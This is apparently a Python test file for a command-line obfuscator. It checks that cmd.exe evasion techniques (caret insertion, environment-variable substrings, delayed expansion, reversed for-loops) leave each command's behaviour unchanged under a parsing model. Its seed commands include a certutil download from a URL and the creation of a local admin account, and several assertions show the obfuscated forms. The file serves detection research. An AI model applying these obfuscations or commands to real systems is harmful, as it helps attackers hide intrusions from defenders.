"""cmd.exe techniques, checked against a small Python model of how cmd.exe parses a line (no Windows here).

The model (``trace``) follows the documented/observed phases: percent expansion of the whole line first
(undefined variables stay as typed at the prompt), then carets and quotes, splitting at & && | ||, leading
``,;`` delimiters, delayed ``!x!`` expansion per command when /v:on, ``set``, ``call`` (a second expansion),
``if a==b``, ``for [/l] %x in (...) do`` (which owns the rest of the line), ``cmd [/v:on] /c "..."`` (first and last
quote stripped) and pipes (each side in a child cmd without delayed expansion). It returns the commands that
would run, with arguments as the program sees them, so an obfuscated line must give the seed's trace.
"""

from __future__ import annotations

import gzip
import json
import random
import re
from pathlib import Path

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.obfuscate import INTENSITIES, cmd, obfuscate

SEEDS = [
    "net user",
    "whoami /all",
    "net user admin P@ss1 /add",
    "certutil -urlcache -split -f http://example.com/a.txt a.txt",
    "ping -n 1 127.0.0.1",
    "netstat -ano | findstr LISTENING",
    "echo hello world",
    "dir C:\\Windows\\System32",
    "tasklist /v && ipconfig /all",
    'reg query "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"',
    "schtasks /query /fo LIST",
    "type C:\\Users\\Public\\notes.txt",
    "dir C:\\Users > out.txt",
    "ipconfig /all 2>nul | findstr IPv4",
    'net user "T1136.002_Admin" >nul 2>&1 /del /domain',
]
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data" / "cmdline" / "cmdlines.jsonl.gz"
MODELLED = [
    "cmd/caret",
    "cmd/quotes",
    "cmd/arg-insertion",
    "cmd/separators",
    "cmd/env-substring",
    "cmd/set-concat",
    "cmd/delayed",
    "cmd/for-loop",
    "cmd/reverse",
    "cmd/substitution",
]
ENV = {k.lower(): v for k, v in cmd.ENV.items()}


def expand(text: str, env: dict[str, str], mark: str = "%") -> str:
    """Percent (or delayed ``!``) expansion with ``:~start,length`` substrings; an undefined ``%x%`` stays as typed
    (command-line rules, not batch-file ones), an undefined ``!x!`` becomes nothing."""
    out, i = [], 0
    while i < len(text):
        if text[i] != mark:
            out.append(text[i])
            i += 1
            continue
        j = text.find(mark, i + 1)
        if j < 0:
            out.append(text[i:])
            break
        name, _, mod = text[i + 1 : j].partition(":")
        value = env.get(name.lower())
        if not name or value is None:
            if mark == "!":
                i = j + 1
                continue
            out.append(text[i:j])  # keep "%name" and go on from the second %
            i = j
            continue
        if mod.startswith("~"):
            start_s, _, length_s = mod[1:].partition(",")
            start = int(start_s or 0)
            start = max(0, len(value) + start) if start < 0 else min(start, len(value))
            if length_s:
                length = int(length_s)
                end = len(value) + length if length < 0 else start + length
                value = value[start : max(start, end)]
            else:
                value = value[start:]
        elif "=" in mod and not mod.startswith(("*", "=")):  # :old=new, every occurrence, case ignored
            old, new = mod.split("=", 1)
            value = re.sub(re.escape(old), lambda _, new=new: new, value, flags=re.IGNORECASE)
        elif mod:
            raise AssertionError(f"unmodelled modifier {mod!r}")
        out.append(value)
        i = j + 1
    return "".join(out)


def split_commands(text: str) -> list[tuple[str, str, list[str]]]:
    """Phase 2: carets removed outside quotes, redirections taken out, split at & && | || (if/for own the rest)."""
    parts, buf, redirs, quoted, i, sep = [], [], [], False, 0, ""
    while i < len(text):
        c = text[i]
        if c == '"':
            quoted = not quoted
        if not quoted and c == "^" and i + 1 < len(text):
            buf.append(text[i + 1])
            i += 2
            continue
        owns_rest = re.match(r"(?i)(if|for)\s", "".join(buf).lstrip(" \t,;="))  # IF and FOR take everything after them
        if not quoted and c in "<>" and not owns_rest:
            op = ">>" if text.startswith(">>", i) else c
            if buf and buf[-1].isdigit() and (len(buf) == 1 or buf[-2] in " \t"):
                op = buf.pop() + op
            j = i + len(op.lstrip("0123456789"))
            while j < len(text) and text[j] in " \t":
                j += 1
            m = re.compile(r'&\d|(?:"[^"]*"|\^.|[^\s&|<>"^])+').match(text, j)
            redirs.append(f"{op} {m.group().replace('^', '') if m else ''}")
            i = m.end() if m else j
            continue
        if not quoted and c in "&|" and not owns_rest:
            op = text[i : i + 2] if text[i : i + 2] in ("&&", "||") else c
            parts.append((sep, "".join(buf), redirs))
            buf, redirs, sep = [], [], op
            i += len(op)
            continue
        buf.append(c)
        i += 1
    parts.append((sep, "".join(buf), redirs))
    return parts


def run(line: str, env: dict[str, str], trace: list[str], delayed: bool = False) -> None:
    commands = split_commands(expand(line, env))
    for k, (sep, command, redirections) in enumerate(commands):
        piped = sep == "|" or (k + 1 < len(commands) and commands[k + 1][0] == "|")
        if sep == "|":
            trace.append("|")
        if piped:  # a child cmd.exe: expands again, delayed expansion off
            execute(expand(command, env), dict(env), trace, False)
        else:
            execute(command, env, trace, delayed)
        trace += redirections  # taken before call or !x! could rebuild them


def execute(command: str, env: dict[str, str], trace: list[str], delayed: bool) -> None:
    command = command.lstrip(" \t,;=")  # trailing spaces stay: "set x=a &&" sets "a "
    if delayed and not re.match(r"(?i)(if|for)\s", command):  # their bodies expand per command, per iteration
        command = expand(command, env, "!")
    if not command:
        return
    m = re.match(r'((?:"[^"]*"|[^\s,;"])+)[\s,;]*(.*)', command, re.S)
    token, rest = m.group(1), m.group(2)
    name = token.replace('"', "")
    lname = re.sub(r"\.exe$", "", name.lower())
    if '"' in token and lname in cmd.BUILTINS:
        trace.append(f"ERROR: quoted builtin {token}")
        return
    if lname == "set":
        var, _, value = rest.partition("=")
        env[var.lower()] = value
    elif lname == "call":
        run(rest, env, trace, delayed=False)
    elif lname == "if":
        m = re.match(r"(\S+)==(\S+)\s+(.*)", rest, re.S)
        if m.group(1) == m.group(2):
            for _sep, part, redirections in split_commands(m.group(3)):
                execute(part, env, trace, delayed)
                trace += redirections
    elif lname == "for":
        m = re.match(r"(/l\s+)?(%\w)\s+in\s+\(([^)]*)\)\s*do\s+(.*)", rest, re.S | re.I)
        counting, var, items, body = m.groups()
        values = re.split(r"[\s,;=]+", items.strip())
        if counting:  # FOR /L %x in (start,step,end): integers, end included
            start, step, end = (
                int(v) for v in re.sub(r"(-)\s+", r"\1", items).replace(";", ",").replace(" ", ",").split(",") if v
            )
            values = [str(v) for v in range(start, end + (1 if step > 0 else -1), step)]
        for item in values:
            for _sep, part, redirections in split_commands(body.replace(var, item)):
                execute(part, env, trace, delayed)
                trace += redirections
    elif lname == "cmd":
        m = re.match(r"((?:/[a-z](?::\w+)?[\s,;]*)*?)/[cr][\s,;]*(.*)", rest, re.S | re.I)
        options, body = m.groups()
        if body.startswith('"') and body.endswith('"'):
            body = body[1:-1]
        run(body, dict(env), trace, delayed="/v" in options.lower())
    else:
        trace.append(normalise(lname, rest))


def normalise(name: str, args: str) -> str:
    """What the program sees: builtins their raw text, other programs their arguments with quotes removed."""
    if name not in cmd.BUILTINS:
        args = args.replace('"', "")
    return " ".join([name.lower(), *args.split()])


def trace_of(line: str) -> list[str]:
    trace: list[str] = []
    run(line, dict(ENV), trace)
    return trace


def outputs(name: str, rng_seeds=(1, 2, 3)):
    for seed in SEEDS:
        for intensity in INTENSITIES:
            for r in rng_seeds:
                try:
                    yield seed, intensity, obfuscate(seed, "cmd", [name], intensity, rng=r).text
                except SectuneError:
                    pass


def test_model_on_known_dosfuscation_shapes():
    assert trace_of("net user") == ["net user"]
    assert trace_of("n^e^t us^er") == trace_of('n"e"t user') == trace_of(",;net user") == ["net user"]
    assert trace_of("%COMSPEC:~-7,1%md /c whoami") == ["whoami"]
    assert trace_of('cmd /c "set a=ne&& set b=t&& call %a%%b% user"') == ["net user"]
    assert trace_of('cmd /c "set a=ne&& set b=t&& %a%%b% user"') == ["%a%%b% user"]  # no call: expanded too early
    assert trace_of('cmd /v:on /c "set x=net&&!x! user"') == ["net user"]
    assert trace_of(
        'cmd /V:ON/C"set s=tne&&for %i in (1,2,0,9) do set f=!f!!s:~%i,1!&&if %i==9 call %f:~-3% user"'
    ) == ["net user"]
    assert trace_of('cmd /V:ON /C"set r=resu ten&&for /L %i in (7,-1,0) do set o=!o!!r:~%i,1!&&if %i==0 call %o%"') == [
        "net user"
    ]
    assert trace_of('cmd /V:ON /C "set a=n6t us6r&&set b=!a:6=E!&&call %b%"') == [
        "net usEr"
    ]  # case ignored in the match; names compare lower-cased
    assert trace_of('"echo" hi')[0].startswith("ERROR")
    assert trace_of("dir > out.txt") == trace_of("dir >out.txt") == ["dir", "> out.txt"]
    assert trace_of('cmd /c "set a=o&& call dir > %a%ut.txt"') == ["dir", "> %a%ut.txt"]  # targets are not re-expanded
    assert trace_of("set p=a^>b") == []
    assert expand("%ProgramFiles:~3,-6%", ENV) == "Program" and expand("%OS:~-2%", ENV) == "NT"


@pytest.mark.parametrize(
    "name",
    [
        "cmd/caret",
        "cmd/quotes",
        "cmd/arg-insertion",
        "cmd/separators",
        "cmd/env-substring",
        "cmd/set-concat",
        "cmd/delayed",
        "cmd/for-loop",
        "cmd/reverse",
        "cmd/substitution",
    ],
)
def test_output_runs_like_the_seed_under_the_cmd_model(name):
    cases = list(outputs(name))
    assert {i for _, i, _ in cases} == set(INTENSITIES), f"{name} applied to no seed at some intensity"
    wrong = [(seed, i, text, trace_of(text)) for seed, i, text in cases if trace_of(text) != trace_of(seed)]
    assert not wrong, "\n".join(f"{i}: {s!r} -> {t!r} runs {tr}" for s, i, t, tr in wrong[:8])
    assert all(text != seed for seed, _, text in cases)


def test_option_swap_only_swaps_option_characters():
    cases = list(outputs("cmd/option-swap"))
    assert len(cases) > 10
    for seed, intensity, text in cases:
        assert text != seed and len(text) == len(seed)
        diffs = [i for i, (a, b) in enumerate(zip(seed, text)) if a != b]
        assert all({seed[i], text[i]} == {"-", "/"} and seed[i - 1] == " " for i in diffs)
        tool = seed.split()[0]
        assert tool in cmd.DUAL_OPTION_TOOLS or " && " in seed
        if intensity == "heavy":
            assert text.count("-") + text.count("/") == seed.count("-") + seed.count("/")


def test_random_case_is_case_insensitively_the_seed():
    for seed, intensity, text in outputs("cmd/random-case"):
        assert text != seed and text.lower() == seed.lower()
        if intensity == "light":  # only command names change
            words, seed_words = text.split(), seed.split()
            assert all(
                a == b or k == 0 or seed_words[k - 1] in ("|", "&&") for k, (a, b) in enumerate(zip(words, seed_words))
            )
    assert obfuscate('echo "Keep Me"', "cmd", ["random-case"], "heavy", rng=1).text.endswith('"Keep Me"')


def test_quotes_leave_builtins_alone():
    with pytest.raises(SectuneError, match="cmd/quotes"):
        obfuscate("echo hello", "cmd", ["quotes"])
    assert obfuscate("net user", "cmd", ["quotes"], "light", rng=1).text.replace('"', "") == "net user"


def test_env_substring_uses_only_stable_parts_of_the_reference_environment():
    text = obfuscate("cmd /c whoami /all", "cmd", ["env-substring"], "heavy", rng=4).text
    for var, start in re.findall(r"%(\w+):~(-?\d+)", text):
        if var == "COMSPEC":
            assert int(start) >= -16  # C:\WINDOWS\ varies in case and place
        if var in ("SystemRoot", "windir"):
            assert 0 <= int(start) < 3


def test_wrappers_refuse_lines_they_would_break():
    with pytest.raises(SectuneError, match="for-loop"):
        obfuscate('echo "a&b"', "cmd", ["for-loop"])
    with pytest.raises(SectuneError, match="delayed"):
        obfuscate("echo hi!", "cmd", ["delayed"])


def test_two_layer_chains_run_like_the_seed():
    modelled = [
        "cmd/caret",
        "cmd/quotes",
        "cmd/arg-insertion",
        "cmd/separators",
        "cmd/env-substring",
        "cmd/set-concat",
        "cmd/delayed",
        "cmd/for-loop",
        "cmd/reverse",
        "cmd/substitution",
    ]
    rng = random.Random(5)
    done = 0
    for first in modelled:
        for second in modelled:
            intensity, start = rng.choice(INTENSITIES), rng.randrange(len(SEEDS))
            for seed in SEEDS[start:] + SEEDS[:start]:  # the first seed the pair applies to
                try:
                    text = obfuscate(seed, "cmd", [first, second], intensity, rng=rng.randrange(999)).text
                except SectuneError:
                    continue
                done += 1
                assert trace_of(text) == trace_of(seed), f"{first}>{second} {intensity}: {seed!r} -> {text!r}"
                break
    assert done >= 0.55 * len(modelled) ** 2  # for-loop, reverse and substitution refuse to wrap a line holding % ! ^ "


def test_random_chains_of_modelled_techniques_run_like_the_seed():
    modelled = {
        "cmd/caret",
        "cmd/quotes",
        "cmd/arg-insertion",
        "cmd/separators",
        "cmd/env-substring",
        "cmd/set-concat",
        "cmd/delayed",
        "cmd/for-loop",
        "cmd/reverse",
        "cmd/substitution",
    }
    checked = 0
    for r in range(400):
        seed = SEEDS[r % len(SEEDS)]
        result = obfuscate(seed, "cmd", intensity=INTENSITIES[r % 3], rng=r)
        if set(result.techniques) <= modelled:
            checked += 1
            assert trace_of(result.text) == trace_of(seed), result
    assert checked > 200


@pytest.mark.skipif(not SHARED.exists(), reason="needs shared/data/cmdline")
def test_real_benign_lines_run_like_themselves():
    """Atomic-red-team and LOLBAS lines the model can parse keep their trace under every modelled technique."""
    with gzip.open(SHARED, "rt") as f:
        lines = [row["text"] for row in map(json.loads, f) if row["shell"] == "cmd" and row["label"] == 0]
    rng, checked = random.Random(2), 0
    for line in rng.sample(lines, 150):
        try:
            expected = trace_of(line)
        except Exception:  # syntax the model does not cover (for /f, parentheses...)
            continue
        for name in MODELLED:
            try:
                text = obfuscate(line, "cmd", [name], rng.choice(INTENSITIES), rng=rng.randrange(99)).text
            except SectuneError:
                continue
            checked += 1
            assert trace_of(text) == expected, f"{name}: {line!r} -> {text!r}"
    assert checked > 500
